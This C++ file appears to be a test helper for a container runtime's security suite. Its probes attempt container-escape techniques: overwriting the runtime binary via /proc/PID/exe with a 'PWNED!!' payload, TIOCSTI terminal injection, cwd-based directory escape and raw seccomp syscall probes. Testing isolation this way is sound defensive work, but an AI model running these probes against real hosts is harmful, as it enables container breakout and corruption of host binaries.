// attacker: what a hostile container process tries (../../../shared/security.md).
// Static, so that tests/integration/security.bats can copy it into the busybox
// rootfs and run it inside a container. Each probe prints its result lines and
// exits 0 once it ran (the result is in the output), 2 on a usage error.
//
//   attacker overwrite-exe PID SECONDS
//       opens /proc/PID/exe (O_PATH; "open-exe: <error>" if refused), then for up
//       to SECONDS, every 10 ms, reopens it for writing through /proc/self/fd/N
//       and writes "PWNED!!\n" at offset 0: "overwrote", or at the deadline
//       "write-denied: <last error>" (ETXTBSY while the binary runs).
//   attacker watch-exe SECONDS
//       scans /proc for a process (not itself, not pid 1) whose executable is
//       neither its own nor pid 1's (the runtime's, in a busybox container):
//       "found PID <readlink of its exe>", then as overwrite-exe on it for the
//       time left; "none-found" if there was none.
//   attacker tiocsti
//       pushes "x" into the input of the terminal on fd 0 (TIOCSTI):
//       "tiocsti: ok" or "tiocsti: <error>"; then "sid=S pid=P tty_nr=T".
//   attacker cwd-escape
//       "cwd: <getcwd>" (or "getcwd: <error>"), then "entry: NAME" for each
//       entry of ../../.., ../.., .. and . (relative to the cwd it started in).
//   attacker syscall NR [NR...]
//       makes each system call NR (a number of this architecture) with six zero
//       arguments: "NR: ok" when it returned >= 0, else "NR: <errno name>"
//       ("435: ENOSYS"); what a seccomp filter answers. Pick NRs that are
//       harmless with zero arguments (not exit, not fork).
#include <dirent.h>
#include <fcntl.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <termios.h>
#include <unistd.h>

#include <cerrno>
#include <chrono>
#include <climits>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <thread>

namespace {

using Clock = std::chrono::steady_clock;

int usage() {
  std::fprintf(stderr,
               "usage: attacker overwrite-exe PID SECONDS | watch-exe SECONDS | tiocsti | "
               "cwd-escape | syscall NR [NR...]\n");
  return 2;
}

bool parse_number(const char* s, long* out) {
  char* end = nullptr;
  errno = 0;
  long v = std::strtol(s, &end, 10);
  if (errno != 0 || end == s || *end != '\0' || v < 0) return false;
  *out = v;
  return true;
}

// Until `deadline`, every 10 ms: reopen the O_PATH fd for writing and write at
// offset 0. Prints "overwrote" or "write-denied: <last error>".
void overwrite(int path_fd, Clock::time_point deadline) {
  std::string self_fd = "/proc/self/fd/" + std::to_string(path_fd);
  static const char kPayload[] = "PWNED!!\n";
  int last = 0;
  for (;;) {
    int fd = ::open(self_fd.c_str(), O_WRONLY | O_CLOEXEC);
    if (fd >= 0) {
      ssize_t n = ::pwrite(fd, kPayload, sizeof kPayload - 1, 0);
      int err = errno;
      ::close(fd);
      if (n == static_cast<ssize_t>(sizeof kPayload - 1)) {
        std::printf("overwrote\n");
        return;
      }
      last = n < 0 ? err : EIO;
    } else {
      last = errno;
    }
    if (Clock::now() >= deadline) break;
    std::this_thread::sleep_for(std::chrono::milliseconds(10));
  }
  std::printf("write-denied: %s\n", std::strerror(last));
}

int overwrite_exe(const char* pid_arg, const char* secs_arg) {
  long pid, secs;
  if (!parse_number(pid_arg, &pid) || !parse_number(secs_arg, &secs)) return usage();
  auto deadline = Clock::now() + std::chrono::seconds(secs);
  std::string exe = "/proc/" + std::to_string(pid) + "/exe";
  int fd = ::open(exe.c_str(), O_PATH | O_CLOEXEC);
  if (fd < 0) {
    std::printf("open-exe: %s\n", std::strerror(errno));
    return 0;
  }
  overwrite(fd, deadline);
  ::close(fd);
  return 0;
}

bool same_file(const struct stat& a, const struct stat& b) {
  return a.st_dev == b.st_dev && a.st_ino == b.st_ino;
}

int watch_exe(const char* secs_arg) {
  long secs;
  if (!parse_number(secs_arg, &secs)) return usage();
  auto deadline = Clock::now() + std::chrono::seconds(secs);
  struct stat self_st {
  }, init_st{};
  bool have_self = ::stat("/proc/self/exe", &self_st) == 0;
  bool have_init = ::stat("/proc/1/exe", &init_st) == 0;
  pid_t me = ::getpid();
  while (Clock::now() < deadline) {
    DIR* proc = ::opendir("/proc");
    if (!proc) {
      std::printf("opendir /proc: %s\n", std::strerror(errno));
      return 0;
    }
    while (struct dirent* e = ::readdir(proc)) {
      long pid;
      if (!parse_number(e->d_name, &pid) || pid == me || pid == 1) continue;
      std::string exe = "/proc/" + std::string(e->d_name) + "/exe";
      int fd = ::open(exe.c_str(), O_PATH | O_CLOEXEC);
      if (fd < 0) continue;
      struct stat st;
      if (::fstat(fd, &st) < 0 || (have_self && same_file(st, self_st)) ||
          (have_init && same_file(st, init_st))) {
        ::close(fd);
        continue;
      }
      char target[PATH_MAX];
      std::string fd_link = "/proc/self/fd/" + std::to_string(fd);
      ssize_t n = ::readlink(fd_link.c_str(), target, sizeof target - 1);
      target[n < 0 ? 0 : n] = '\0';
      ::closedir(proc);
      std::printf("found %ld %s\n", pid, target);
      std::fflush(stdout);
      overwrite(fd, deadline);
      ::close(fd);
      return 0;
    }
    ::closedir(proc);
  }
  std::printf("none-found\n");
  return 0;
}

int tiocsti() {
  char c = 'x';
  if (::ioctl(0, TIOCSTI, &c) == 0)
    std::printf("tiocsti: ok\n");
  else
    std::printf("tiocsti: %s\n", std::strerror(errno));
  // Field 7 of /proc/self/stat: the controlling terminal (0: none). Field 2,
  // the command, is in parentheses and may hold spaces: count after its ')'.
  std::string tty_nr = "?";
  if (FILE* f = std::fopen("/proc/self/stat", "r")) {
    char buf[1024];
    size_t n = std::fread(buf, 1, sizeof buf - 1, f);
    buf[n] = '\0';
    std::fclose(f);
    if (const char* p = std::strrchr(buf, ')')) {
      // after ')': state(3) ppid(4) pgrp(5) session(6) tty_nr(7)
      char state;
      long ppid, pgrp, session, tty;
      if (std::sscanf(p + 1, " %c %ld %ld %ld %ld", &state, &ppid, &pgrp, &session, &tty) == 5)
        tty_nr = std::to_string(tty);
    }
  }
  std::printf("sid=%ld pid=%ld tty_nr=%s\n", static_cast<long>(::getsid(0)),
              static_cast<long>(::getpid()), tty_nr.c_str());
  return 0;
}

int cwd_escape() {
  char cwd[PATH_MAX];
  if (::getcwd(cwd, sizeof cwd))
    std::printf("cwd: %s\n", cwd);
  else
    std::printf("getcwd: %s\n", std::strerror(errno));
  for (const char* dir : {"../../..", "../..", "..", "."}) {
    DIR* d = ::opendir(dir);
    if (!d) {
      std::printf("opendir %s: %s\n", dir, std::strerror(errno));
      continue;
    }
    while (struct dirent* e = ::readdir(d)) {
      if (std::strcmp(e->d_name, ".") == 0 || std::strcmp(e->d_name, "..") == 0) continue;
      std::printf("entry: %s\n", e->d_name);
    }
    ::closedir(d);
  }
  return 0;
}

int raw_syscalls(int count, char** numbers) {
  for (int i = 0; i < count; ++i) {
    long nr;
    if (!parse_number(numbers[i], &nr)) return usage();
  }
  for (int i = 0; i < count; ++i) {
    long nr = std::strtol(numbers[i], nullptr, 10);
    errno = 0;
    long rc = ::syscall(nr, 0L, 0L, 0L, 0L, 0L, 0L);
    if (rc >= 0) {
      std::printf("%ld: ok\n", nr);
    } else {
      const char* name = ::strerrorname_np(errno);
      std::printf("%ld: %s\n", nr, name ? name : std::to_string(errno).c_str());
    }
  }
  return 0;
}

}  // namespace

int main(int argc, char** argv) {
  // Line-buffered even into a file: a probe killed at its deadline keeps what it printed.
  std::setvbuf(stdout, nullptr, _IOLBF, 0);
  if (argc < 2) return usage();
  std::string cmd = argv[1];
  if (cmd == "overwrite-exe" && argc == 4) return overwrite_exe(argv[2], argv[3]);
  if (cmd == "watch-exe" && argc == 3) return watch_exe(argv[2]);
  if (cmd == "tiocsti" && argc == 2) return tiocsti();
  if (cmd == "cwd-escape" && argc == 2) return cwd_escape();
  if (cmd == "syscall" && argc >= 3) return raw_syscalls(argc - 2, argv + 2);
  return usage();
}
